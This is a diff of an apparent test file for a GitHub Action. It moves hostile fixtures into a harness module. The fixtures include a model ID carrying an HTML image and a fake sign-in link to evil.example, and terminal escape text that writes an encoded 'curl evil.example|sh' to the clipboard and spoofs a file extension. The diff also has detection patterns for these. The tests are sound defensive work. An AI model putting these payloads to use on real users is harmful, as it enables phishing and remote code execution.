@@ -9,31 +9,12 @@ import { runAction, leakedSecrets, type ActionRun } from '../harness/run-action.
 import { healthyAccount } from '../harness/e2e-world.js'
 import { OIDC_SESSION_ENV } from '../harness/scenarios.js'
 import { SONNET_45 } from '../harness/fake-bedrock.js'
+import { CONTROLS, CONTROL_TEXT, liveMarkup } from '../harness/hostile.js'
 
 const fake = useFakeAws(healthyAccount)
 
 /** A model ID a pull request could write into the env file: HTML, an image and a link. */
 const MARKUP_MODEL = `us.${SONNET_45}</details><img src=https://evil.example/p.png>[Sign in again](https://evil.example/login)`
-/** OSC 52 (clipboard write), CSI 2J (clear screen), OSC 8 (hyperlink), U+202E (right-to-left). */
-const CONTROL_TEXT =
-  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[2J\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\ \u202egnp.exe'
-const CONTROLS =
-  // eslint-disable-next-line no-control-regex -- what no output may hold
-  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
-
-/** Markup that would render: an HTML tag, an image, a link or an autolink. */
-function liveMarkup(markdown: string): string[] {
-  // Drop what GitHub shows as text: code spans and fenced blocks, and backslash-escaped characters.
-  const text = markdown
-    .replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '')
-    .replace(/(`+)[^`]*?\1/g, '')
-    .replace(/\\./g, '')
-  const ours = /^<details><summary>|<\/summary>$|^<\/details>$|<\/?sub>/gm
-  return [
-    ...(text.replace(ours, '').match(/<\/?[a-z][^>]*>/gi) ?? []),
-    ...(text.match(/!?\[[^\]]*\]\(https:\/\/evil[^)]*\)/g) ?? [])
-  ]
-}
 
 async function action(
   inputs: Record<string, string>,
